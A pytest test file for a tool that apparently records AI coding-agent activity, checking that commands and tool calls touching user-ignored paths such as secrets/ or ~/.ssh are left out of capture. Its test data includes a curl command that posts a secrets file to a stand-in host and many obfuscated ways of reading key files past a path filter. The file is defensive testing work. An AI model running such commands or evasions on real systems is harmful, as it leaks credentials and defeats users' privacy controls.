"""Paths that a person does not want captured."""

import json
import os
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from memwiki.capture.commands import pieces
from memwiki.capture.ignore import ignored, matches
from memwiki.capture.observe import drafted
from memwiki.capture.settings import settings_of


@pytest.mark.parametrize(
    ("path", "pattern"),
    [
        ("/w/a/secrets/x.txt", "secrets/"),
        ("/w/a/secrets/x.txt", "secrets/**"),
        ("/w/a/secrets/deep/x.txt", "secrets"),
        ("/w/a/src/secrets", "secrets/"),
        ("/w/a/src/x.pem", "*.pem"),
        ("src/x.pem", "*.pem"),
        ("/w/a/src/a/b/x.py", "src/**/*.py"),
        ("/w/a/src/x.py", "src/*.py"),
        ("/etc/passwd", "/etc/*"),
        ("/other/place/private/x", "**/private/**"),
        ("C:\\w\\a\\keys\\id", "keys/"),
        ("./.env", ".env*"),
        ("/w/a/SECRETS/X.txt", "secrets/x.txt"),
        ("/w/a/Geheim/Größe", "geheim/GRÖSSE"),
        ("/w/a/cafe\u0301/x", "caf\u00e9/"),
        ("/w/a/src/../secrets/./x", "secrets/x"),
        ("/w/a//secrets//x", "secrets/x"),
    ],
)
def test_matching_paths(path, pattern):
    assert matches(path, [pattern], "/w/a")


@pytest.mark.parametrize(
    ("path", "pattern"),
    [
        ("/w/a/src/x.py", "*.pem"),
        ("/w/a/src/deep/x.py", "src/*.py"),
        ("/w/a/mysecrets/x", "secrets"),
        ("x", ""),
        ("/w/a/secrets/../src/x", "secrets/"),
    ],
)
def test_other_paths(path, pattern):
    assert not matches(path, [pattern], "/w/a")


def shell(command, cwd="/w/a", **more):
    return {"cwd": cwd, "tool": {"name": "Bash", "family": "shell", "input": {"command": command, **more}}, "files": []}


@pytest.mark.parametrize(
    "command",
    [
        "cat secrets/key.txt",
        "cat 'secrets/key.txt' | head",
        'cat "secrets"/key.txt',
        'cat sec"ret"s/key.txt',
        "cat sec\\rets/key.txt",
        "cat ./src/../secrets/key.txt",
        "cd secrets && cat key.txt",
        "cd src; cd ../secrets; cat key.txt",
        "pushd secrets >/dev/null; cat key.txt; popd",
        "(cd secrets && cat key.txt)",
        "git -C secrets show HEAD:key.txt",
        "tar -C secrets -cf - key.txt",
        "make --directory=secrets key.txt",
        "bash -c 'cat secrets/key.txt'",
        'bash -lc "cd secrets && cat key.txt"',
        "ssh host 'cd secrets && cat key.txt'",
        "D=secrets; cat $D/key.txt",
        "export D=/w/a/secrets && cat ${D}/key.txt",
        "cat $PWD/secrets/key.txt",
        "cat $(pwd)/secrets/key.txt",
        'cat "$ROOT/secrets/key.txt"',
        "cat {src,secrets}/key.txt",
        "cat secr*/key.txt",
        "cat s?crets/key.*",
        "cat [st]ecrets/key.txt",
        "cat SECRETS/Key.TXT",
        "awk -fsecrets/key.txt x",
        "docker run -v=/w/a/secrets/key.txt:/x img",
        "curl --data @secrets/key.txt https://x.example",
        "python -c \"print(open('secrets/key.txt').read())\"",
        "cat <secrets/key.txt",
        "x\n" * 400 + "cat secrets/key.txt",
        "type C:\\w\\a\\secrets\\key.txt",
        "git commit -m 'read secrets/key.txt'",
        "cat file:///w/a/secrets/key.txt",
        "cat $'secrets/key.txt'",
        "cat $'\\x73ecrets/key.txt'",
        "cat $'secrets\\057key.txt' 'a b'",
    ],
)
@pytest.mark.parametrize("pattern", ["secrets/key.txt", "secrets/**"])
def test_paths_in_commands_count_however_they_are_written(command, pattern):
    assert ignored(shell(command), [pattern], "/w/a", "/home/dev")


@pytest.mark.parametrize(
    "command",
    [
        "ls",
        "cat src/key.txt",
        "git commit -m 'rotate the secrets of staging'",
        "echo 'no secrets here'",
        "make test",
        "cd src && cat key.txt",
        "cat mysecrets/key.txt",
        "npx prettier 'src/**/*.ts'",
        "grep -rn 'k.*y' src",
        "",
    ],
)
def test_other_commands_are_kept(command):
    assert not ignored(shell(command), ["secrets/", "*.pem"], "/w/a", "/home/dev")


def test_the_folder_of_the_call_counts():
    assert ignored(shell("cat key.txt", cwd="/w/a/secrets"), ["secrets/key.txt"], "/w/a")
    assert ignored(shell("cat key.txt", cwd="/w/a/secrets"), ["secrets/"], "/w/a")
    assert ignored(shell("cat key.txt", workdir="secrets"), ["secrets/key.txt"], "/w/a")
    assert ignored(shell("cat ~/vault/x", cwd="/w/a"), ["/home/dev/vault/**"], "/w/a", "/home/dev")
    assert ignored(shell("ls", cwd="/w/clients/a/src"), ["clients/"], "/w/clients/a")


def test_patches_count_by_their_headers_only():
    def patch(text):
        return {"cwd": "/w/a", "tool": {"name": "apply_patch", "input": {"patch": text}}, "files": []}

    assert ignored(patch("*** Update File: secrets/key.txt\n"), ["secrets/"], "/w/a")
    assert ignored(patch("*** Update File: x\n*** Move to: secrets/key.txt\n"), ["secrets/"], "/w/a")
    assert ignored(patch("diff --git a/x b/secrets/key.txt\n--- a/x\n+++ b/secrets/key.txt\n"), ["secrets/*"], "/w/a")
    many = "".join(f"*** Update File: src/f{n}.py\n@@\n+x\n" for n in range(300))
    assert ignored(patch(f"{many}*** Add File: secrets/key.txt\n"), ["secrets/"], "/w/a")
    assert not ignored(patch("*** Update File: x.py\n@@\n+secrets = load()\n"), ["secrets/"], "/w/a")


def test_other_tools_count_by_their_arguments():
    args = {"cwd": "/w/a", "tool": {"name": "mcp__fs__read", "input": {"args": '{"uri":"file:///w/a/secrets/k"}'}}}
    glob = {"cwd": "/w/a", "tool": {"name": "Glob", "input": {"pattern": "secrets/*.txt", "path": ""}}}
    many = {"cwd": "/w/a", "tool": {"name": "ReadManyFiles", "input": {"path": "a.txt secrets/k b.txt"}}}
    regex = {"cwd": "/w/a", "tool": {"name": "Grep", "input": {"pattern": "secrets", "path": "src"}}}
    assert ignored(args, ["secrets/"], "/w/a")
    assert ignored(glob, ["secrets/"], "/w/a")
    assert ignored(many, ["secrets/"], "/w/a")
    assert not ignored(regex, ["secrets/"], "/w/a")


@pytest.mark.parametrize(
    ("family", "output"),
    [
        ("shell", "src/a.py:3:x = 1\nsecrets/key.txt:1:the words\n"),
        ("shell", "./secrets/key.txt:1:the words"),
        ("shell", "==> secrets/key.txt <==\nthe words"),
        ("shell", "diff --git a/secrets/key.txt b/secrets/key.txt\n+the words"),
        ("search", "src/a.py\nsecrets/key.txt"),
    ],
)
def test_what_a_search_printed_counts(family, output):
    tool = {"name": "Bash", "family": family, "input": {"command": "grep -r words ."}, "output": output}
    assert ignored({"cwd": "/w/a", "tool": tool}, ["secrets/"], "/w/a")
    assert not ignored({"cwd": "/w/a", "tool": tool}, ["vault/"], "/w/a")


def test_output_that_only_speaks_of_the_folder_is_kept():
    tool = {"family": "shell", "input": {"command": "make"}, "output": "loading secrets: done\n3 secrets rotated\n"}
    assert not ignored({"cwd": "/w/a", "tool": tool}, ["secrets/"], "/w/a")


def test_links_are_followed(tmp_path):
    root = tmp_path / "work"
    (root / "secrets").mkdir(parents=True)
    (root / "secrets" / "key.txt").write_text("x", "utf-8")
    (root / "open").symlink_to(root / "secrets")
    (tmp_path / "far").mkdir()
    (root / "vault").symlink_to(tmp_path / "far")
    (tmp_path / "seen").symlink_to(root)
    place = str(root)
    assert ignored(shell("cat open/key.txt", cwd=place), ["secrets/"], place)
    assert ignored(shell(f"cat {tmp_path}/far/x", cwd=place), ["vault/"], place)
    assert ignored(shell("cat secrets/key.txt", cwd=f"{tmp_path}/seen"), ["secrets/key.txt"], place)
    assert ignored({"cwd": place, "files": [f"{tmp_path}/seen/secrets/key.txt"]}, ["secrets/key.txt"], place)
    assert not ignored(shell("cat far/x", cwd=place), ["vault/"], place)


def test_bare_wildcards_stand_for_what_is_there(tmp_path):
    (tmp_path / "src" / "deep").mkdir(parents=True)
    place = str(tmp_path)
    for command in ("ls *", "cat */key.txt", "cat **/key.txt"):
        assert not ignored(shell(command, cwd=place), ["secrets/"], place)
    (tmp_path / "src" / "deep" / "secrets").mkdir()
    assert not ignored(shell("cat */key.txt", cwd=place), ["secrets/"], place)
    assert ignored(shell("cat **/key.txt", cwd=place), ["secrets/"], place)
    (tmp_path / "secrets").mkdir()
    for command in ("ls *", "cat */key.txt", "wc -l src/*/*/key.txt"):
        assert ignored(shell(command, cwd=place), ["secrets/"], place)


def test_hostile_patterns_and_commands_end():
    begin = time.process_time()
    assert not matches("a" * 200, ["*a" * 40 + "b"], "")
    assert not matches("/".join("a" * 60), ["**/" * 30 + "b"], "")
    assert not ignored(shell("cat " + "**/" * 50 + "x?" * 500), ["secrets/zz"], "/w/a")
    assert not ignored(shell("echo " + "{a,b}" * 40), ["secrets/"], "/w/a")
    assert not ignored(shell("echo ${" * 400 + "$" * 400), ["secrets/"], "/w/a")
    assert time.process_time() - begin < 20


@settings(derandomize=True, deadline=None, max_examples=200)
@given(st.text(alphabet="abs*?[]{},$\\'\"`;|&<>()=~/. \n-cC", max_size=120), st.text(alphabet="abs*?/.[]", max_size=12))
def test_any_command_is_survived(command, pattern):
    ignored(shell(command), [pattern], "/w/a", "/home/dev")


def test_a_name_of_nuls_is_survived():
    assert not ignored(shell("cat a\0b/c", cwd="/w\0"), ["x/**"], os.sep)


@pytest.mark.parametrize(
    ("path", "pattern"),
    [
        ("/home/u/.ssh/id_rsa", "~/.ssh/**"),
        ("/home/u/.ssh/id_rsa", "$HOME/.ssh/**"),
        ("/w/a/x.Pem", "*.[pP]em"),
        ("/w/a/x.key", "*.{pem,key}"),
        ("/w/a/secrets/x", "secrets\\**"),
    ],
)
def test_patterns_as_people_write_them(path, pattern):
    event = {"cwd": "/w/a", "files": [path], "tool": {"name": "Read", "input": {"path": path}}}
    assert ignored(event, [pattern], "/w/a", "/home/u")


def test_settings_take_a_single_pattern_and_long_lists():
    assert settings_of({"capture": {"ignore_paths": "secrets/**"}}, {}).ignore_paths == ("secrets/**",)
    many = [f"x{number}" for number in range(500)]
    assert settings_of({"capture": {"ignore_paths": [*many, " last/** "]}}, {}).ignore_paths[-1] == "last/**"


@pytest.mark.parametrize(
    ("agent", "payload"),
    [
        ("kiro", {"tool_name": "fs_read", "tool_input": {"operations": [{"path": "secrets/a"}]}}),
        ("other", {"tool_name": "read", "tool_input": {"files": ["x", "/w/a/secrets/a"]}}),
        ("other", {"tool_name": "edit", "tool_input": {"TargetFile": "secrets/a", "CodeEdit": "x"}}),
        ("gemini-cli", {"tool_name": "read_many_files", "tool_input": {"include": ["secrets/a*"]}}),
        ("claude-code", {"tool_name": "mcp__fs__read", "tool_input": {"uri": "file:///w/a/%73ecrets/a"}}),
        ("copilot-cli", {"tool_name": "mcp__fs__read", "tool_input": r'{"path":"secr\u0065ts/a"}'}),
        ("cursor", {"tool_name": "mcp__fs__read", "tool_input": r'{"path":"secrets\/a"}'}),
    ],
)
def test_paths_count_under_whatever_key_an_agent_gives_them(agent, payload):
    raw = {"session_id": "s", "cwd": "/w/a", "hook_event_name": "PostToolUse", "tool_response": "x", **payload}
    found, _ = drafted(json.dumps(raw).encode(), agent)
    assert ignored(found, ["secrets/**"], "/w/a")
    assert not ignored(found, ["other/**"], "/w/a")


def test_a_call_that_could_only_be_read_in_part_is_left_out():
    raw = {
        "session_id": "s",
        "cwd": "/w/a",
        "hook_event_name": "PostToolUse",
        "tool_name": "Read",
        "tool_response": "x",
        "tool_input": {"path": "secrets/a"},
    }
    found, _ = drafted(json.dumps(raw).encode()[:-4], "claude-code")
    assert ignored(found, ["secrets/**"], "/w/a")


def test_stars_of_a_shell_reach_into_a_folder(tmp_path):
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "a.txt").write_text("x", "utf-8")
    assert ignored(shell("cat secrets/**", str(tmp_path)), ["secrets/*.txt"], str(tmp_path))
    assert not ignored(shell("cat \0/*/x */y\ud800/*/z", str(tmp_path)), ["secrets/*.txt"], str(tmp_path))


def test_no_pattern_and_no_command_takes_for_ever():
    started = time.process_time()
    deep = "/" + "/".join(["a"] * 64)
    assert not matches(deep, ["**/a/**/a/**/a/**/a/**/a/**/a/**/a/**/b"], "/w")
    many = " ".join(f"a{number}/b" for number in range(200_000))
    assert not ignored(shell(f"cat {many}"), ["secrets/**", "*.pem"], "/w/a")
    assert ignored(shell(f"cat {many} secrets/x"), ["secrets/**"], "/w/a")
    plain = time.process_time() - started
    started = time.process_time()
    for _ in range(20):
        pieces(many)
    assert plain < (time.process_time() - started) * 10


@pytest.mark.parametrize(
    ("command", "output"),
    [
        ("rg --heading x", "secrets/key.txt\n12:x = 1\n\nsrc/a.py\n3:x\n"),
        ("rg -p x", "src/a.py\n3:x\n\n\x1b[35msecrets/key.txt\x1b[0m\n\x1b[32m12\x1b[0m:x\n"),
        ("rg --heading -N x", "src/a.py\nx\n\nsecrets/key.txt\nx = 1\n"),
        ("ag x", "secrets/key.txt\n12:x = 1\n"),
        ("git grep --heading -n x", "secrets/key.txt\n12:x = 1\n"),
        ("diff -ru a b", "diff -ru a/secrets/key.txt b/secrets/key.txt\n1c1\n< x\n"),
        ("bat -A *", "\u2500\u2500\u252c\u2500\n  \u2502 File: secrets/key.txt\n 1 \u2502 x\n"),
        ("git grep -n x HEAD", "HEAD:secrets/key.txt:12:x\n"),
        ("rg -0 x", "secrets/key.txt\x0012:x = 1\n"),
        ("rg --json x", '{"type":"match","data":{"path":{"text":"secrets/key.txt"},"lines":{"text":"x"}}}\n'),
        ("rg --color always x", "\x1b[0m\x1b[35msecrets/key.txt\x1b[0m:\x1b[32m12\x1b[0m:x\n"),
    ],
)
def test_what_a_search_prints_under_a_files_name_is_left_out(command, output):
    event = shell(command)
    event["tool"]["output"] = output
    assert ignored(event, ["secrets/"], "/w/a")
    event["tool"]["output"] = output.replace("secrets/", "open/")
    assert not ignored(event, ["secrets/"], "/w/a")


@pytest.mark.parametrize(
    ("prompt", "left_out"),
    [
        ("Read secrets/key.txt and tell me what is in it", True),
        ("Compare src/a.py with `secrets/key.txt`.", True),
        ("看一下 secrets/key.txt，然后总结", True),
        ("We keep no secrets here: read src/a.py", False),
    ],
)
def test_what_a_subagent_is_sent_to_counts(prompt, left_out):
    task = {"name": "Task", "family": "task", "input": {"description": "look", "prompt": prompt}, "output": "42"}
    assert ignored({"cwd": "/w/a", "tool": task, "files": []}, ["secrets/"], "/w/a") is left_out
    told = {"cwd": "/w/a", "event": "subagent-end", "text": prompt}
    assert ignored(told, ["secrets/"], "/w/a") is left_out
